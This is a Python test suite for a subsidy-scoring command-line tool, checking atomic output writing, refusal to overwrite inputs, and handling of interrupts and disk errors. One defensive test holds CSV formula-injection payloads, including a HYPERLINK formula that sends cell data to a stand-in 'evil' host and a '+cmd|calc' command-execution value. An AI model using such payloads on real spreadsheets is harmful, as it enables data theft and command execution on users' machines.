"""Outputs appear whole or not at all, and never overwrite an input.

Each test is a probe: the command, then the files it must leave (the previous ones, byte for
byte, and no partial file) and the one message it must print.
"""

from __future__ import annotations

import errno
import os
import signal
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import polars as pl
import pytest

from subsidy_engine.batch import sinks, stream

if TYPE_CHECKING:
    from conftest import Kit


def score(kit: Kit, source: Path, output: Path, *more: str | Path) -> tuple[int, str, str]:
    return kit.run(
        "score", source, "-o", output, "--as-of", kit.AS_OF, "--rulebook", kit.MINI, *more
    )


Batches = Callable[[Path, str | None, int], Iterator[pl.DataFrame]]


def swallowing(real: Batches) -> Batches:
    """A reader that, after its first batch, catches a Ctrl-C and ends its stream as if the
    input had ended, as Polars may."""

    def read(path: Path, given: str | None, rows: int) -> Iterator[pl.DataFrame]:
        batches = real(path, given, rows)
        yield next(batches)
        try:
            os.kill(os.getpid(), signal.SIGINT)
        except KeyboardInterrupt:
            return

    return read


@pytest.mark.parametrize("name", ["same.parquet", "same.csv"])
def test_an_output_equal_to_the_input_is_refused_and_the_input_kept(
    kit: Kit, tmp_path: Path, name: str
) -> None:
    source = kit.registry(tmp_path / name)
    before = kit.snapshot(tmp_path)
    code, out, err = score(kit, source, source)
    assert code == 2 and out == ""
    assert "is also an input" in kit.one_message(err)
    assert kit.snapshot(tmp_path) == before


@pytest.mark.parametrize("link", ["symlink", "hardlink", "dotted"])
def test_an_output_that_is_the_input_under_another_name_is_refused(
    kit: Kit, tmp_path: Path, link: str
) -> None:
    source = kit.registry(tmp_path / "reg.parquet")
    other = tmp_path / "other.parquet"
    if link == "symlink":
        other.symlink_to(source)
    elif link == "hardlink":
        os.link(source, other)
    else:
        (tmp_path / "sub").mkdir()
        other = tmp_path / "sub" / ".." / "reg.parquet"
    before = kit.snapshot(tmp_path)
    code, _, err = score(kit, source, other)
    assert code == 2 and "is also an input" in kit.one_message(err)
    assert kit.snapshot(tmp_path) == before


@pytest.mark.parametrize(
    ("output", "option", "second"),
    [
        ("y.csv", "--rejects", "y.csv"),
        ("z.parquet", "--summary", "z.parquet"),
        ("x.csv", "--summary", "x.rejects.csv"),
    ],
)
def test_two_outputs_on_one_path_are_refused_before_reading(
    kit: Kit, tmp_path: Path, output: str, option: str, second: str
) -> None:
    source = kit.registry(tmp_path / "reg.parquet")
    before = kit.snapshot(tmp_path)
    code, out, err = score(kit, source, tmp_path / output, option, tmp_path / second)
    assert code == 2 and out == ""
    assert "given for two outputs" in kit.one_message(err)
    assert kit.snapshot(tmp_path) == before


def test_a_failed_run_removes_the_folders_it_made(kit: Kit, tmp_path: Path) -> None:
    source = kit.registry(tmp_path / "reg.csv", rows=3)
    with source.open("a") as file:
        file.write('1,2,3,"4,5\n')
    code, _, err = score(kit, source, tmp_path / "new" / "deeper" / "out.parquet")
    assert code == 2 and "line 5: a quote opened here is never closed" in kit.one_message(err)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["reg.csv"]


def test_a_folder_as_output_is_refused(kit: Kit, tmp_path: Path) -> None:
    source = kit.registry(tmp_path / "reg.parquet")
    (tmp_path / "d.parquet").mkdir()
    code, _, err = score(kit, source, tmp_path / "d.parquet")
    assert code == 2 and "is a folder" in kit.one_message(err)


def test_a_successful_run_replaces_the_previous_outputs_whole(kit: Kit, tmp_path: Path) -> None:
    source = kit.registry(tmp_path / "reg.csv", rows=7)
    out, totals = tmp_path / "out" / "r.parquet", tmp_path / "out" / "t.csv"
    out.parent.mkdir()
    out.write_bytes(b"old results")
    totals.write_bytes(b"old totals")
    code, stdout, err = score(kit, source, out, "--summary", totals, "--statuses", "all")
    assert (code, err) == (0, "")
    assert "7 rows read: 7 scored, 0 rejected" in stdout
    assert pl.read_parquet(out)["row"].unique().len() == 7
    assert pl.read_csv(totals).height == 7
    assert (tmp_path / "out" / "r.rejects.csv").read_text() == "row,credit_code,reason\n"
    assert kit.partial_files(tmp_path) == []


def test_a_bad_line_late_in_the_input_leaves_no_output(kit: Kit, tmp_path: Path) -> None:
    source = kit.registry(tmp_path / "reg.csv", rows=30)
    with source.open("a") as file:
        file.write(f'{kit.GOOD},C3071,1,2,"东区\n')
    out = tmp_path / "out.parquet"
    out.write_bytes(b"previous run")
    before = kit.snapshot(tmp_path)
    code, stdout, err = score(
        kit, source, out, "--batch-rows", "5", "--summary", tmp_path / "s.csv"
    )
    assert code == 2 and stdout == ""
    assert "line 32: a quote opened here is never closed" in kit.one_message(err)
    assert kit.snapshot(tmp_path) == before


@pytest.mark.parametrize(
    ("number", "text"), [(errno.ENOSPC, "No space left"), (errno.EACCES, "Permission denied")]
)
def test_a_write_failing_midway_leaves_the_previous_files(
    kit: Kit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, number: int, text: str
) -> None:
    """A full disk or a refused write, after the first batches are written."""
    source = kit.registry(tmp_path / "reg.parquet", rows=30)
    out = tmp_path / "out.csv"
    out.write_bytes(b"previous run")
    before = kit.snapshot(tmp_path)
    real = sinks.Sink.write
    writes = iter(range(1000))

    def failing(self: sinks.Sink, frame: pl.DataFrame) -> None:
        if next(writes) == 7:
            raise OSError(number, os.strerror(number), str(self.path))
        real(self, frame)

    monkeypatch.setattr(sinks.Sink, "write", failing)
    code, stdout, err = score(kit, source, out, "--batch-rows", "5")
    assert code == 2 and stdout == ""
    assert text in kit.one_message(err) and len(err.splitlines()) == 1
    assert kit.snapshot(tmp_path) == before


def test_an_interrupt_swallowed_by_the_reader_still_stops_the_run(
    kit: Kit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The run must not pass for a short registry (exit 0, "0 rows read")."""
    source = kit.registry(tmp_path / "reg.csv", rows=30)
    monkeypatch.setattr(stream, "registry_batches", swallowing(stream.registry_batches))
    out = tmp_path / "out.parquet"
    code, stdout, err = score(kit, source, out, "--batch-rows", "5")
    assert code == 130 and stdout == ""
    assert kit.one_message(err) == "subsidy-engine: interrupted; no output was written\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["reg.csv"]


def test_csv_cells_that_would_run_as_formulas_are_written_inert(kit: Kit, tmp_path: Path) -> None:
    keys = ['=HYPERLINK("http://evil/?x="&A1)', "+cmd|calc!A0", "-2+3", "@SUM(A1)", kit.GOOD]
    source = kit.registry(tmp_path / "reg.csv", rows=5, keys=keys)
    code, _, _ = score(kit, source, tmp_path / "out.csv")
    assert code == 0
    rejects = pl.read_csv(tmp_path / "out.rejects.csv", infer_schema=False)
    assert rejects["credit_code"].to_list() == ["'" + key for key in keys[:4]]


def test_generate_refuses_a_name_that_is_not_parquet(kit: Kit, tmp_path: Path) -> None:
    code, _, err = kit.run("generate", "10", "-o", tmp_path / "g.csv")
    assert code == 2 and "generate writes Parquet" in kit.one_message(err)
    assert list(tmp_path.iterdir()) == []


def test_generate_writes_a_whole_parquet_file(kit: Kit, tmp_path: Path) -> None:
    code, _, err = kit.run("generate", "25", "-o", tmp_path / "g.parquet", "--seed", "3")
    assert (code, err) == (0, "")
    assert pl.read_parquet(tmp_path / "g.parquet").height == 25
    assert kit.partial_files(tmp_path) == []


def test_schema_out_writes_every_schema_or_none(kit: Kit, tmp_path: Path) -> None:
    code, out, _ = kit.run("schema", "--out", tmp_path / "schemas")
    assert code == 0
    written = sorted(p.name for p in (tmp_path / "schemas").iterdir())
    assert written == sorted(Path(line).name for line in out.splitlines())
    (tmp_path / "file").write_text("keep")
    code, _, err = kit.run("schema", "--out", tmp_path / "file")
    assert code == 2 and "is not a folder" in kit.one_message(err)
    assert (tmp_path / "file").read_text() == "keep"


def test_schema_check_of_a_missing_folder_says_so(kit: Kit, tmp_path: Path) -> None:
    code, _, err = kit.run("schema", "--check", tmp_path / "nope")
    assert code == 2 and "no such folder" in kit.one_message(err)


@pytest.mark.parametrize(("chart", "message"), [("c.txt", "a chart is written as")])
def test_impact_refuses_a_chart_it_cannot_write_before_reading(
    kit: Kit, tmp_path: Path, chart: str, message: str
) -> None:
    code, _, err = kit.run("impact", tmp_path / "missing.parquet", "--chart", tmp_path / chart)
    assert code == 2 and message in kit.one_message(err)


def test_impact_writes_its_chart_whole_into_a_new_folder(kit: Kit, tmp_path: Path) -> None:
    source = kit.registry(tmp_path / "reg.parquet")
    chart = tmp_path / "charts" / "c.png"
    code, _, err = kit.run(
        "impact", source, "--chart", chart, "--as-of", kit.AS_OF, "--rulebook", kit.MINI
    )
    assert (code, err) == (0, "")
    assert chart.read_bytes().startswith(b"\x89PNG")
    assert kit.partial_files(tmp_path) == []


def test_score_file_called_from_python_also_notices_a_swallowed_interrupt(
    kit: Kit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from subsidy_engine import Engine

    source = kit.registry(tmp_path / "reg.csv", rows=30)
    monkeypatch.setattr(stream, "registry_batches", swallowing(stream.registry_batches))
    with pytest.raises(KeyboardInterrupt):
        stream.score_file(Engine(kit.MINI), source, tmp_path / "o.parquet", batch_rows=5)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["reg.csv"]
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler
